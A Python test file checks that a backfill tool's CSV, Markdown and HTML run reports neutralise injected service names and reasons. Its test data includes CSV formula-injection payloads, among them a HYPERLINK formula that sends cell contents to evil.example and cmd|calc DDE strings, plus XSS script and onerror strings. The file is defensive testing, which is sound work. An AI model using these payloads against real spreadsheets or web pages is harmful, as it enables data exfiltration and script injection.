"""A backfill run's report read by the people it is for, in each of its forms: nothing a service's
name, tag or reason carries can turn into a formula in their spreadsheet, into markup in their
Markdown viewer or into script in their browser, and an empty run still renders as valid tables."""

from __future__ import annotations

import csv
import html
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from sidecar_enforcer.domain.runs import report_html, report_text, run_report

from ._factories import report_row as _row

# What OWASP's "CSV Injection" page lists as the first characters of a cell a spreadsheet may read as
# a formula: = + - @, tab (0x09), carriage return (0x0D) and line feed (0x0A).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",  # a spreadsheet that trims leading spaces on import sees a formula
    '=1+2";=1+2',  # OWASP's example: a quote and a separator to start a cell of its own
    "=1+2'\" ;,=1+2",
]
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def _report(rows: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
    return run_report.build(
        run_id=more.pop("run_id", "bf-1"),
        mode=more.pop("mode", "audit"),
        started="2026-12-01T00:00:00+00:00",
        ended="2026-12-01T00:00:01+00:00",
        seconds=1.0,
        rows=rows,
        calls=more.pop("calls", {"ecs:ListServices": 1}),
        **more,
    )


# -- CSV ----------------------------------------------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_begins_as_a_formula(payload: str) -> None:
    rows = [
        _row(payload, "REFUSED", cluster=payload, profile=payload, reasons=[payload, "second"]),
        _row("plain", "NONCOMPLIANT", reasons=[payload]),
    ]

    text = run_report.render(_report(rows), "csv")

    cells = _cells(text)
    assert len(cells) == 3 * len(report_text.CSV_COLUMNS)  # no quote or separator started a cell
    for cell in cells:
        assert not cell.lstrip(" ").startswith(TRIGGERS), cell


def test_every_csv_cell_is_quoted_so_a_separator_in_it_starts_no_cell() -> None:
    text = run_report.render(_report([_row("a", "REFUSED", reasons=['x", =1+2, "y'])]), "csv")

    for line in text.splitlines():
        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_neutralised_csv_cell_loses_nothing_but_gains_one_leading_quote(payload: str) -> None:
    text = run_report.render(_report([_row(payload, "REFUSED", cluster=payload, reasons=[payload])]), "csv")

    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["service"] == "'" + payload
    assert row["cluster"] == "'" + payload
    assert row["reasons"] == "'" + payload


def test_csv_cells_that_are_no_formula_are_kept_as_they_are() -> None:
    arn = "arn:aws:ecs:us-east-1:123456789012:task-definition/web:3"
    text = run_report.render(
        _report([_row("web-1", "NONCOMPLIANT", sourceTaskDefinitionArn=arn, reasons=["a, b", 'say "x"'])]),
        "csv",
    )

    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["service"], row["sourceTaskDefinitionArn"]) == ("web-1", arn)
    assert row["reasons"] == 'a, b; say "x"'


def test_an_empty_run_is_a_csv_file_of_its_header_alone() -> None:
    text = run_report.render(_report([]), "csv")

    assert list(csv.reader(io.StringIO(text))) == [list(report_text.CSV_COLUMNS)]


# -- Markdown -----------------------------------------------------------------------------------------


def _tokens(text: str) -> list[Any]:
    return list(MarkdownIt("commonmark").enable("table").parse(text))


def _table_shapes(text: str) -> list[tuple[int, list[int]]]:
    """Each table a CommonMark + GFM-table parser finds: its header's cell count, each body row's."""
    shapes: list[tuple[int, list[int]]] = []
    head, cells, where = 0, 0, ""
    rows: list[int] = []
    for token in _tokens(text):
        if token.type == "table_open":
            head, rows = 0, []
        elif token.type in ("thead_open", "tbody_open"):
            where = token.type
        elif token.type == "tr_open":
            cells = 0
        elif token.type in ("th_open", "td_open"):
            cells += 1
        elif token.type == "tr_close":
            if where == "thead_open":
                head = cells
            else:
                rows.append(cells)
        elif token.type == "table_close":
            shapes.append((head, rows))
    return shapes


def _pipe_tables(text: str) -> int:
    """How many tables the text means to hold: runs of lines that begin with a pipe."""
    return len(re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE))


@pytest.mark.parametrize(
    "payload",
    [
        HOSTILE,
        "a | b",
        "`code`",
        "line\nbreak",
        "[click](http://evil.example)",
        "_em_ *strong* ~~gone~~ a\\|b",
        "&lt;b&gt; & -> <",
    ],
)
def test_markdown_renders_names_and_reasons_as_text_in_their_own_cell(payload: str) -> None:
    rows = [_row(payload, "REFUSED", cluster=payload, reasons=[payload]), _row("ok", "COMPLIANT")]
    report = _report(rows, run_id=payload, stopped=payload)

    text = run_report.render(report, "md")
    rendered = MarkdownIt("commonmark").enable("table").render(text)

    assert "<script" not in rendered
    assert "<img" not in rendered
    assert "<a " not in rendered
    assert "<code>" not in rendered
    assert "<em>" not in rendered
    assert rendered.count("<strong>") == 1  # the report's own "Stopped:"
    assert "<s>" not in rendered
    for head, body in _table_shapes(text):
        assert all(n == head for n in body), (head, body)
    assert len(_table_shapes(text)) == _pipe_tables(text)
    flat = re.sub(r"<[^>]+>", "", rendered)
    assert payload.replace("\n", " ") in html.unescape(flat)


def test_an_empty_run_renders_every_markdown_table_with_its_header() -> None:
    text = run_report.render(_report([], calls={}), "md")

    shapes = _table_shapes(text)
    assert len(shapes) == _pipe_tables(text)
    assert shapes, "the status table is there, empty"
    for head, body in shapes:
        assert head >= 1
        assert all(n == head for n in body)


# -- HTML (as text; tests/integration/test_report_browser.py looks at it in a browser) --------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page(report: dict[str, Any]) -> _Page:
    page = _Page()
    page.feed(run_report.render(report, "html"))
    return page


def test_the_page_carries_no_script_and_no_event_handler_from_what_it_shows() -> None:
    rows = [
        _row(HOSTILE, "FAILED", cluster=HOSTILE, profile=HOSTILE, reasons=[HOSTILE]),
        _row("b", "DEPLOYMENT_FAILED", wave=1, reasons=[HOSTILE]),
    ]
    waves = [{"number": 1, "size": 1, "succeeded": 0, "failed": 1, "neutral": 0, "tripped": True}]
    page = _page(_report(rows, run_id=HOSTILE, mode="enforce", stopped=HOSTILE, waves=waves))

    assert "script" not in {tag for tag, _ in page.tags}
    assert "img" not in {tag for tag, _ in page.tags}
    assert not [name for _, attrs in page.tags for name in attrs if name.startswith("on")]
    assert HOSTILE in "".join(page.text)


def test_the_page_fits_a_phone_and_allows_nothing_it_does_not_need() -> None:
    page = _page(_report([_row("a", "COMPLIANT")]))
    metas = [attrs for tag, attrs in page.tags if tag == "meta"]

    assert {"name": "viewport", "content": "width=device-width, initial-scale=1"} in metas
    (policy,) = [m["content"] for m in metas if m.get("http-equiv") == "Content-Security-Policy"]
    assert "default-src 'none'" in str(policy)
    assert "script-src" not in str(policy)


def test_every_service_is_listed_under_its_status_collapsed() -> None:
    rows = [
        _row(f"svc-{i}", status) for i, status in enumerate(["COMPLIANT", "COMPLIANT", "REFUSED", "VERIFIED"])
    ]
    page = _page(_report(rows))
    text = "".join(page.text)

    summaries = [attrs for tag, attrs in page.tags if tag == "details"]
    assert len(summaries) == 3  # one per status found
    for i in range(4):
        assert f"svc-{i}" in text
    assert re.search(r"COMPLIANT\s*\(2\)", text)


def test_an_audit_run_shows_no_wave_table() -> None:
    page = _page(_report([_row("a", "NONCOMPLIANT")]))

    assert "Waves" not in "".join(page.text)


def test_a_wave_names_its_failed_members_with_why_from_the_rows() -> None:
    rows = [
        _row("good", "VERIFIED", wave=1),
        _row("bad", "DEPLOYMENT_FAILED", wave=1, reasons=["task stopped: CannotPullContainerError"]),
        _row("late", "FAILED", wave=2, reasons=["deployment had not ended after 1800 s"]),
    ]
    waves = [
        {"number": 1, "size": 2, "succeeded": 1, "failed": 1, "neutral": 0, "tripped": False},
        {"number": 2, "size": 1, "succeeded": 0, "failed": 1, "neutral": 0, "tripped": True},
    ]

    section = _waves_section(run_report.render(_report(rows, mode="enforce", waves=waves), "html"))

    assert re.search(r"bad.*CannotPullContainerError", section, re.DOTALL)
    assert re.search(r"late.*had not ended", section, re.DOTALL)
    assert "good" not in section


def test_a_wave_names_the_failed_members_its_outcome_lists() -> None:
    waves = [
        {
            "number": 1,
            "size": 2,
            "succeeded": 1,
            "failed": 1,
            "neutral": 0,
            "tripped": False,
            "failedMembers": [
                {
                    "cluster": "shop",
                    "service": "pay",
                    "status": "DEPLOYMENT_FAILED",
                    "reason": "circuit breaker",
                }
            ],
        }
    ]

    page = run_report.render(_report([_row("pay", "DEPLOYMENT_FAILED")], mode="enforce", waves=waves), "html")

    assert re.search(r"shop/pay.*circuit breaker", _waves_section(page), re.DOTALL)


def _waves_section(page: str) -> str:
    found = re.search(r'<section id="waves">(.*?)</section>', page, re.DOTALL)
    assert found, "the page has a waves section"
    return found.group(1)


def test_each_status_is_labelled_in_words_and_its_colour_is_one_of_a_colour_blind_safe_set() -> None:
    # Okabe and Ito's palette (Color Universal Design), with greys for the routine statuses
    okabe_ito = {"#000000", "#e69f00", "#56b4e9", "#009e73", "#f0e442", "#0072b2", "#d55e00", "#cc79a7"}
    greys = {"#999999", "#dddddd", "#bbbbbb"}
    assert {c.lower() for c in report_html.COLOURS.values()} <= okabe_ito | greys

    rows = [_row("a", "FAILED"), _row("b", "COMPLIANT"), _row("c", "NONCOMPLIANT")]
    text = "".join(_page(_report(rows)).text)
    for label in ("FAILED", "COMPLIANT", "NONCOMPLIANT"):
        assert re.search(rf"\b{label}\b\s*1\b", text), label


def test_markdown_names_each_wave_s_failed_members_and_why_as_text() -> None:
    rows = [
        _row("good", "VERIFIED", wave=1),
        _row("bad", "DEPLOYMENT_FAILED", wave=1, reasons=["audit said so", "rolloutState <FAILED> | x"]),
    ]
    waves = [{"number": 1, "size": 2, "succeeded": 1, "failed": 1, "neutral": 0, "tripped": True}]

    text = run_report.render(_report(rows, mode="enforce", waves=waves), "md")

    failed = text.split("### Failed in a wave", 1)[1]
    assert (
        "| 1 | 123456789012/us-east-1 | shop | bad | DEPLOYMENT_FAILED | rolloutState &lt;FAILED> \\| x |"
        in failed
    )
    assert "good" not in failed
    for head, body in _table_shapes(text):
        assert all(n == head for n in body)


def test_an_audit_run_s_markdown_has_no_wave_table() -> None:
    assert "Waves" not in run_report.render(_report([_row("a", "NONCOMPLIANT")]), "md")


def test_the_corpus_report_s_markdown_escapes_file_names_and_reasons_too(tmp_path: Path) -> None:
    from sidecar_enforcer.domain.planning.policy import Policy
    from sidecar_enforcer.profiles import builtin_profiles
    from sidecar_enforcer_dev.report import report

    path = tmp_path / "a|<img src=x onerror=alert(1)>.json"
    path.write_text('{"containerDefinitions": [{"name": "app", "image": "nginx", "memory": 64}]}')

    text = report([path], [builtin_profiles()["jaeger"]], Policy(), markdown=True)
    rendered = MarkdownIt("commonmark").enable("table").render(text)

    assert "<img" not in rendered
    ((head, body),) = _table_shapes(text)
    assert body == [head]
